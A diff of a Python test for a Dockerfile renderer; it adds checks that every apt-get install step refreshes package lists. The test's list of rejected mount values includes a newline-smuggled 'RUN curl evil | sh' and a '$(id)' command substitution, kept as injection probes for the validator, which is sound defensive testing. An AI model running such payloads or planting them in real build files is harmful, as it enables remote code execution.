@@ -89,6 +89,9 @@ def test_run_mounts_reach_every_run_and_are_checked(plan):
     text = dockerfile.render(plan, run_mounts=mounts).files["Dockerfile"]
     runs = [line for line in text.replace("\\\n", " ").splitlines() if line.startswith("RUN ")]
     assert runs and all(mounts[0] in line and mounts[1] in line for line in runs)
+    # the bundle's lists are in each RUN's tmpfs: always read, never judged by the shared lists cache's age
+    installs = [line for line in runs if "apt-get install" in line]
+    assert len(installs) > 1 and all("apt-get update" in line and "-mmin" not in line for line in installs)
     for bad in ("--mount=type=bind,source=x target=/y", "--mount=type=bind,source=x\nRUN curl evil | sh",
                 "--mount=type=secret,id=x", "--mount=type=bind,source=$(id),target=/x"):
         with pytest.raises(ValueError):
